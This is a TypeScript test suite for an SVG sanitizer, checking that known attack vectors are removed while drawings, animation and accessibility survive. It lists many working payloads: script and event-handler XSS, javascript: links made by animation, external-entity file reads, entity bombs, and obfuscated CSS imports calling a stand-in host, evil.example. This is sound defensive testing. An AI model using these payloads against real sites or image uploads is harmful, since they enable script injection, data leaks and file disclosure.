// SVGs are stored so that they draw and do nothing else; the attacks are the ones that sanitizers have fallen to.
import { readFileSync } from "node:fs";
import sharp from "sharp";
import { describe, expect, test } from "vitest";
import { countProcessorTime } from "../../support/processor-time.ts";
import { sanitizeSvg } from "../../support/whole-svg.ts";

const svg = (inside: string, attributes = "") =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10" ${attributes}>${inside}</svg>`;

function clean(text: string): string {
  const result = sanitizeSvg(text);
  if (!result.ok) throw new Error(result.reason);
  return result.svg;
}

/** Nothing of this may be in an answer, however it is spelled. */
const evil = /script|alert|evil|javascript|\bon[a-z]+=|foreignobject|<!|<\?|@import|expression|behavior|\\/i;

const attacks: Readonly<Record<string, string>> = {
  "a script element": svg("<script>alert(1)</script>"),
  "a script with a namespace prefix": `<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>alert(1)</s:script></s:svg>`,
  "an HTML script inside": svg(`<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>`),
  "a script by reference": svg(
    `<script xlink:href="https://evil.example/x.js"/><script href="data:text/javascript,alert(1)"/>`,
  ),
  "a script in CDATA": svg("<script><![CDATA[alert(1)]]></script>"),
  "a script inside a title": svg(
    "<title><script>alert(1)</script></title><desc><x onclick='alert(1)'/></desc>",
  ),
  "handlers on the root": svg("", `onload="alert(1)" onerror='alert(1)' ONLOAD="alert(1)"`),
  "handlers on shapes": svg(
    `<rect onclick="alert(1)" onmouseover="alert(1)" onbegin="alert(1)" width="1" height="1"/>`,
  ),
  "handlers of animations": svg(`<animate attributeName="x" onbegin="alert(1)" dur="1s"/>`),
  "a javascript link": svg(
    `<a href="javascript:alert(1)"><text>x</text></a><a xlink:href="java&#10;script:alert(1)"/>`,
  ),
  "a link with entities in its scheme": svg(`<a xlink:href="&#x6a;avascript:alert(1)"><circle r="1"/></a>`),
  "a link elsewhere": svg(`<a href="https://evil.example/"><text>x</text></a>`),
  "set on a link": svg(`<a><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a>`),
  "set on an xlink link": svg(`<set attributeName="xlink:href" to="javascript:alert(1)"/>`),
  "animate of a link": svg(`<animate attributeName="href" values="javascript:alert(1);x" begin="0s"/>`),
  "animate of a handler": svg(`<set attributeName="onmouseover" to="alert(1)"/>`),
  "animate without a name": svg(`<animate to="javascript:alert(1)"/>`),
  "animate of the style": svg(`<set attributeName="style" to="background:url(https://evil.example)"/>`),
  "a foreign object": svg(
    `<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="javascript:alert(1)"/></body></foreignObject>`,
  ),
  "an iframe, an embed, an object": svg(
    `<iframe href="//evil.example"/><embed src="//evil.example"/><object data="//evil.example"/>`,
  ),
  "HTML by namespace": svg(`<h:img xmlns:h="http://www.w3.org/1999/xhtml" src="x" onerror="alert(1)"/>`),
  "HTML as default namespace": svg(
    `<g xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(1)"/></g>`,
  ),
  "use of another file": svg(
    `<use href="https://evil.example/x.svg#a"/><use xlink:href="data:image/svg+xml;base64,PHN2Zz4=#evil"/>`,
  ),
  "an image from elsewhere": svg(
    `<image href="https://evil.example/x.png"/><image xlink:href="//evil.example/x.png"/>`,
  ),
  "an SVG inside an image": svg(`<image href="data:image/svg+xml,%3Csvg onload=alert(1)%3E"/>`),
  "a data link that is no bitmap": svg(
    `<image href="data:text/html;base64,ZXZpbA=="/><feImage href="data:text/html,evil"/>`,
  ),
  "url() in an attribute": svg(
    `<rect fill="url(https://evil.example/#a)" filter="url(#ok) url('//evil.example')"/>`,
  ),
  "url() with an escape": svg(
    `<rect fill="ur\\6c(https://evil.example)" style="fill:u\\72l(//evil.example)"/>`,
  ),
  "url() with a comment": svg(
    `<rect style="fill:ur/**/l(//evil.example);stroke:url(/**/'//evil.example')"/>`,
  ),
  "image-set, src and cross-fade": svg(
    `<rect mask="image-set('//evil.example' 1x)" style="mask:src('//evil.example');cursor:-webkit-cross-fade(url(//evil.example),red)"/>`,
  ),
  "a style attribute": svg(
    `<rect style="background:url(javascript:alert(1));behavior:url(//evil.example);width:expression(alert(1))"/>`,
  ),
  "an import": svg(
    `<style>@import url(//evil.example/x.css);@import "//evil.example"; rect{fill:red}</style>`,
  ),
  "an import behind a comment": svg(
    `<style>/*x*/@im/**/port "//evil.example";@IMPORT '//evil.example';</style>`,
  ),
  "an import in pieces": svg(
    `<style>@im<![CDATA[port]]> "//evil.example";@im<!-- x -->port "//evil.example";</style>`,
  ),
  "an import by character references": svg(
    `<style>&#64;import "//evil.example";&#x40;import url(//evil.example)</style>`,
  ),
  "url() in pieces": svg(
    `<style>a{fill:ur<![CDATA[l(//evil.example)]]>}b{fill:u<?x?>rl(//evil.example)}</style>`,
  ),
  "an import in a media rule": svg(
    `<style>@media all{@import "//evil.example";rect{fill:url(//evil.example)}}</style>`,
  ),
  "a font": svg(
    `<style>@font-face{font-family:x;src:url(https://evil.example/f.woff)}@namespace x "evil";</style>`,
  ),
  "a style sheet that ends its element": svg(
    `<style>&lt;/style&gt;&lt;script&gt;alert(1)&lt;/script&gt;{}</style>`,
  ),
  "a string that swallows a rule": svg(`<style>a{content:"} b{c:" url(//evil.example) "}</style>`),
  "a string that reaches over the next rule": svg(
    `<style>a{--x:"}"url(//evil.example){}b{fill:'}'url(//evil.example)'{}</style>`,
  ),
  "elements inside a style": svg(`<style>rect{fill:red}<script>alert(1)</script></style>`),
  "a style sheet by instruction": `<?xml version="1.0"?><?xml-stylesheet href="https://evil.example/x.xsl" type="text/xsl"?>${svg("")}`,
  "an external entity": `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/evil">]>${svg("<text>a</text>")}`,
  "a parameter entity": `<!DOCTYPE svg [<!ENTITY % x SYSTEM "https://evil.example/x.dtd">%x;]>${svg("")}`,
  "an entity that holds markup": `<!DOCTYPE svg [<!ENTITY x "https://a"><!ENTITY y "%3Cscript">]>${svg("<text>&x;</text>")}`,
  "a comment with markup": svg("<!-- <script>alert(1)</script> -->"),
  "another base": svg(`<use href="#a"/>`, `xml:base="https://evil.example/"`),
  "a handler element": svg(
    `<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler><listener event="load"/>`,
  ),
  "data attributes and unknown names": svg(
    `<rect data-evil="1" formaction="javascript:alert(1)" xlink:actuate="onLoad" xlink:show="new"/>`,
  ),
  metadata: svg(`<metadata><rdf:RDF xmlns:rdf="urn:x"><evil/></rdf:RDF></metadata>`),
};

describe("An SVG's attack is gone:", () => {
  test.each(Object.entries(attacks))("%s", (_, text) => {
    const cleaned = clean(text);
    expect(cleaned).not.toMatch(evil);
    expect(clean(cleaned), "cleaning again changes nothing").toBe(cleaned);
  });

  test("the fixed point holds for what stays, too", () => {
    const drawing = readFileSync("test/fixtures/drawing.svg", "utf8");
    expect(clean(clean(drawing))).toBe(clean(drawing));
  });
});

test("An attribute's value can't end its attribute, whichever quote its writer used", () => {
  const cleaned = clean(
    svg(`<text id='a" onload="b'/><g class="a' onload='b" aria-label='&quot;&lt;&amp;&gt;&#10;'/>`),
  );
  expect(cleaned).toContain('<text id="a&quot; onload=&quot;b"/>');
  expect(cleaned).toContain(`<g class="a' onload='b" aria-label="&quot;&lt;&amp;&gt;&#10;"/>`);
  expect(clean(cleaned)).toBe(cleaned);
});

test("A text can't open a tag", () => {
  expect(clean(svg("<text>&lt;script&gt; <![CDATA[<script> & ]]></text>"))).toContain(
    "<text>&lt;script&gt; &lt;script&gt; &amp; </text>",
  );
});

test.each(["a ", "é", "\u4e00", "😀"])(
  "Text with %j comes out the same wherever the SVG is cut",
  (letters) => {
    const picture = `<?xml version="1.0"?>${svg(`<text id="${letters}">\r\n${letters}&#x41;</text><style>a{fill:red}</style>`)}`;
    const whole = clean(picture);
    for (let at = 0; at <= picture.length; at++)
      expect(sanitizeSvg(picture.slice(0, at), picture.slice(at))).toEqual({ ok: true, svg: whole });
  },
);

describe("An SVG is refused with a reason when it", () => {
  test.each([
    ["is not well-formed", "<svg xmlns='http://www.w3.org/2000/svg'><g></svg>", "well-formed"],
    ["has two roots", svg("") + svg(""), "well-formed"],
    ["is empty", "", "well-formed"],
    ["is HTML", "<html><body/></html>", "root"],
    ["is an svg of some other language", "<svg xmlns='urn:x'/>", "root"],
    [
      "uses an entity that holds entities",
      `<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]>${svg("<text>&b;</text>")}`,
      "entity",
    ],
    ["is nested 10,000 deep", svg("<g>".repeat(10_000) + "</g>".repeat(10_000)), "deeply"],
    [
      "swells by entities",
      `<!DOCTYPE svg [<!ENTITY a "${"h".repeat(100)}">]>${svg(`<text>${"&a;".repeat(20_000)}</text>`)}`,
      "entities",
    ],
  ])("%s", (_, text, reason) => {
    const result = sanitizeSvg(text);
    expect(result.ok ? "accepted" : result.reason).toContain(reason);
  });
});

describe("An SVG keeps", () => {
  test("its look, pixel for pixel", async () => {
    const picture = svg(
      `<defs><linearGradient id="g"><stop offset="0" stop-color="#f00"/><stop offset="1" style="stop-color:rgb(0,0,255)"/></linearGradient>
       <clipPath id="c"><circle cx="5" cy="5" r="4"/></clipPath><g id="leaf"><path d="M1 1L4 2L2 4Z"/></g></defs>
       <style type="text/css"><![CDATA[ .leaf > path { fill: url(#g); stroke: #000 } @media all { rect { opacity: .5 } } ]]></style>
       <rect width="10" height="10" fill="url(#g)" clip-path="url('#c')"/><use class="leaf" xlink:href="#leaf" transform="translate(2 3)"/>
       <text x="1" y="9" font-size="2" font-family="sans-serif">a &lt; b &amp; c</text>
       <image width="3" height="3" href="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="/>`,
      `width="100" height="100"`,
    );
    const [before, after] = await Promise.all(
      [picture, clean(picture)].map((text) => sharp(Buffer.from(text)).raw().toBuffer()),
    );
    expect(after?.equals(before ?? Buffer.alloc(0))).toBe(true);
    expect(clean(picture)).toContain(".leaf &gt; path{fill:url(#g);stroke:#000}");
  });

  test("animation, accessible names and the text of a link", () => {
    const cleaned = clean(
      svg(
        `<a href="https://x.example"><text>read me</text></a><circle r="2"><animate attributeName="r" values="1;2" dur="1s" repeatCount="indefinite"/></circle>`,
        `role="img" aria-label="A dot"`,
      ),
    );
    expect(cleaned).toContain("<text>read me</text>");
    expect(cleaned).toContain(`<animate attributeName="r" values="1;2" dur="1s" repeatCount="indefinite"/>`);
    expect(cleaned).toContain(`role="img" aria-label="A dot"`);
  });

  test("working when Illustrator wrote its namespaces as entities", () => {
    const cleaned = clean(
      `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x.dtd" [<!ENTITY ns_svg "http://www.w3.org/2000/svg">]><svg xmlns="&ns_svg;" width="1" height="1"><rect width="1" height="1"/></svg>`,
    );
    expect(cleaned).toContain('<rect width="1" height="1"/>');
  });

  test("being a picture when its writer forgot the namespace", () => {
    expect(
      clean("<svg width='1' height='1'><rect width='1' height='1'/><script>alert(1)</script></svg>"),
    ).toBe(
      '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="1" height="1"><rect width="1" height="1"/></svg>',
    );
  });
});

test("an SVG made of hostile repetition is done with in moments", () => {
  const milliseconds = countProcessorTime();
  for (const text of [
    svg(`<style>${"a{}".repeat(200_000)}</style>`),
    svg(`<style>${"{".repeat(200_000)}</style>`),
    svg(`<style>${"/*".repeat(200_000)}</style>`),
    svg(`<style>${'"'.repeat(200_000)}{}</style>`),
    svg(`<path d="${"a".repeat(400_000)}"/>`),
    svg(`<path d="${"url(".repeat(100_000)}"/>`),
    svg(`<path style="${"a:b;".repeat(100_000)}"/>`),
    svg("<g/>".repeat(50_000)),
    svg("&lt;".repeat(100_000)),
  ])
    expect(sanitizeSvg(text).ok).toBe(true);
  expect(milliseconds()).toBeLessThan(3000);
});

test("what calls itself XML 1.1 is read as the XML 1.0 that is written of it: no control character comes through", () => {
  const declared = (text: string) => `<?xml version="1.1"?>${svg(`<text>${text}</text>`)}`;
  expect(clean(declared("a"))).toContain("<text>a</text>");
  for (const control of ["&#1;", "&#x1f;", "&#0;"]) expect(sanitizeSvg(declared(control)).ok).toBe(false);
});
